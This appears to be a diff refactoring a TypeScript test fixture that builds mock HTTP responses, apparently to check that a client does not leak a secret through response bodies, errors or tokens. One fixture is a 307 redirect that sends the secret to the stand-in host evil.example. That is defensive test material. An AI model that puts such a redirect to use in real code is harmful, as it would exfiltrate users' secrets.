@@ -4,23 +4,10 @@ import { escaped } from './secrets.ts'
 export type Trick = (secret: string) => Response | Promise<Response>
 
 function post(secret: string): Record<string, unknown> {
-  const count = {
-    bookmarkCount: 0,
-    favoriteCount: 0,
-    quoteCount: 0,
-    replyCount: 0,
-    retweetCount: 0,
-    viewsCount: 0,
-  }
-  const words = {
-    id: secret,
-    body: `a ${secret}`,
-    author: secret,
-    name: secret,
-    timestamp: secret,
-    url: secret,
-  }
-  return { ...words, images: [secret], video: null, engagements: count, [secret]: secret }
+  const names = ['bookmark', 'favorite', 'quote', 'reply', 'retweet', 'views']
+  const engagements = Object.fromEntries(names.map((name) => [`${name}Count`, 0]))
+  const words = Object.fromEntries(['id', 'author', 'name', 'timestamp', 'url'].map((name) => [name, secret]))
+  return { ...words, body: `a ${secret}`, images: [secret], video: null, engagements, [secret]: secret }
 }
 
 function answer(status: number, secret: string, body: unknown, more: Record<string, string> = {}): Response {
@@ -38,12 +25,8 @@ function answer(status: number, secret: string, body: unknown, more: Record<stri
 export function refusal(status: number, more: Record<string, string> = {}): Trick {
   return (secret) => {
     const issues = [{ path: secret, message: `not ${secret}` }]
-    return answer(
-      status,
-      secret,
-      { requestId: secret, error: { code: secret, message: `no ${secret}`, issues } },
-      more,
-    )
+    const error = { code: secret, message: `no ${secret}`, issues }
+    return answer(status, secret, { requestId: secret, error }, more)
   }
 }
 
@@ -55,11 +38,8 @@ export function page(meta: object): Trick {
 
 /** The same in escapes. */
 export const escapedPage: Trick = (secret) => {
-  const text = JSON.stringify({
-    requestId: 'r',
-    posts: [post('PLACE')],
-    meta: { returnedCount: 1, hasMore: false },
-  })
+  const meta = { returnedCount: 1, hasMore: false }
+  const text = JSON.stringify({ requestId: 'r', posts: [post('PLACE')], meta })
   return answer(200, secret, text.replaceAll('PLACE', escaped(secret)))
 }
 
@@ -87,11 +67,10 @@ export const oddTokens: Trick[] = [
   (secret) => answer(200, secret, { access_token: `${secret}\n`, token_type: 'bearer' }),
 ]
 
-export const redirect: Trick = (secret) =>
-  new Response(null, {
-    status: 307,
-    headers: { location: `https://evil.example/?${encodeURIComponent(secret)}` },
-  })
+export const redirect: Trick = (secret) => {
+  const location = `https://evil.example/?${encodeURIComponent(secret)}`
+  return new Response(null, { status: 307, headers: { location } })
+}
 
 /** What a runtime could throw that keeps the request in its errors. */
 export const broken: Trick = (secret) => {
